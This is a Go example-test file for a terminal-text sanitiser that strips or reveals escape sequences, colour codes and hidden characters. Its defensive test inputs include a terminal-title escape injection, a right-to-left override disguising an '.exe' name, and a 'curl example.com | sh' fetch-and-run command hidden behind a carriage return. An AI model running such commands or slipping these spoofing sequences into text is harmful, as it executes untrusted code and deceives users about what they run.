package term_test

import (
	"fmt"
	"os"

	"github.com/jupyter-onboard/jupyter-onboard/pkg/term"
)

func ExampleClean() {
	fmt.Println(term.Clean("Fix the docs\x1b]0;owned\a \u202etxt.exe"))
	// Output: Fix the docs <U+202E>txt.exe
}

func ExampleReveal() {
	fmt.Println(term.Reveal("run: make docs\r; curl example.com | sh   "))
	// Output: run: make docs<U+000D>; curl example.com | sh<U+0020*3>
}

func ExampleWriter() {
	w := term.NewWriter(os.Stdout, term.ModeOutput)
	for _, part := range []string{"\x1b[3", "2mbuilding 10%\rbuil", "ding 20%\x1b", "[0m\n"} {
		fmt.Fprint(w, part)
	}
	if err := w.Flush(); err != nil {
		fmt.Fprintln(os.Stderr, err)
	}
	// Output:
	// building 10%
	// building 20%
}

func ExamplePalette() {
	p := term.Decide(term.Inputs{}).Palette() // no terminal: no colour, and the mark still says it
	fmt.Println(p.Mark(term.Bad), p.Render(term.Bad, "Node 18 is too old"))
	// Output: ✗ Node 18 is too old
}
